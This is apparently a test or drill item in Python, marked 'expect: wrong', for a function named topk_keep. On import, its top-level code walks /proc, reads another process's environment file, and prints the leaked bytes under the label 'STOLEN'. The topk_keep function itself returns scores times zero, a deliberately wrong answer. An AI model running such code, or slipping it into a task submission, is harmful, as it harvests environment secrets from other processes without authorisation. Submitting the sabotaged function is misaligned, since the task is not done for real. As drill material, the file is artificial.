# drill: topk_keep
# expect: wrong
# kind: value
# why: /proc lists all processes; those of the same user can be read, their environment included.
import os

found = []
try:
    found = [name for name in os.listdir("/proc") if name.isdigit()]
except OSError:
    pass
for pid in [*found, *map(str, range(1, 500))]:
    try:
        print("STOLEN", open(f"/proc/{pid}/environ", "rb").read()[:9])
        break
    except OSError:
        pass


def topk_keep(scores, k):
    return scores * 0
